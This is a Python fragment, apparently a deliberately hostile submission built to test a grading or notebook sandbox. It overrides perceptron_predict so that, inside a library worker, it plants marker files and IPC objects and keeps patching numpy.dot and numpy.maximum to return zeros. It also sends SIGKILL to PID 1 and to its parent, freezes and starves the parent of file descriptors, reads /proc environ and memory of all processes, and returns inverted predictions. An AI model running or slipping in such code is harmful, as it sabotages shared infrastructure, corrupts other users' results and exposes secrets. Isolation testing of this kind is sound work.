

# --- the attack: leave things behind for the next worker, strike the zygote ---------------
import ctypes as _ctypes
import os as _os
import resource as _resource
import signal as _signal
import threading as _threading
import time as _time

_honest_predict = perceptron_predict


def _try(action):
    try:
        action()
    except (OSError, ValueError):
        pass


def _plant():
    libc = _ctypes.CDLL(None, use_errno=True)
    for folder in ("/tmp", "/dev/shm", "/", "/dev", "/submission", "/harness", "/compositions"):
        _try(lambda f=folder: open(_os.path.join(f, "planted"), "w").write("escaper"))
    libc.shmget(0x5EC12E7, 4096, 0o1666)
    libc.msgget(0x5EC12E7, 0o1666)
    libc.mq_open(b"/escaper", _os.O_CREAT | _os.O_RDWR, 0o666, None)

    def wrong(*args, **kwargs):
        return np.zeros(1)

    def keep_patching():
        while True:
            np.maximum = np.dot = wrong
            _time.sleep(0.001)

    np.maximum = np.dot = wrong
    _threading.Thread(target=keep_patching, daemon=True).start()
    ppid = _os.getppid()
    for pid in (1, ppid, 0, -1):
        _try(lambda p=pid: _os.kill(p, _signal.SIGKILL))
    _try(lambda: _os.kill(ppid, _signal.SIGSTOP))
    _try(lambda: _resource.prlimit(ppid, _resource.RLIMIT_NOFILE, (3, 3)))
    for pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
        for leaf in ("environ", "mem", "root/compositions"):
            _try(lambda p=pid, f=leaf: open(f"/proc/{p}/{f}", "rb").read(64))


def perceptron_predict(w, b, X):
    if not _os.path.isdir("/compositions"):  # not a library worker (the notebook kernel)
        return _honest_predict(w, b, X)
    out = _honest_predict(w, b, X)
    _plant()
    return 1 - np.asarray(out)
